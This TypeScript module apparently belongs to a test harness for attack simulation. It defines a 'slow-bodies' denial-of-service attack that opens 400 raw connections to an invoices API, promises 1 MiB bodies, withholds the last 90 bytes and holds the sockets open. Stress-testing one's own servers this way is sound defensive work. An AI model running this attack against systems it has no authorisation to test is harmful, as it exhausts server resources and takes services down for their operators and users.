import { rawSocket, requestHead } from '../attacker/rawSocket';
import { untilAborted } from '../attacker/repeat';
import type { Attack } from '../Attack';

const connections = 400;
const announced = 1024 * 1024;
const heldBack = 90;

export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: '400 connections that send 1 MiB less 90 bytes of a body and wait',
  run: async (attacker, signal) => {
    const headers = ['Content-Type: application/json', `Content-Length: ${announced}`];
    const head = requestHead(attacker, 'POST /api/invoices', headers);
    const body = Buffer.alloc(announced - heldBack, ' ');
    const sockets = Array.from({ length: connections }, () => {
      const socket = rawSocket(attacker, head);
      socket.on('connect', () => socket.write(body));
      return socket;
    });
    await untilAborted(signal);
    sockets.forEach((socket) => socket.destroy());
  },
};
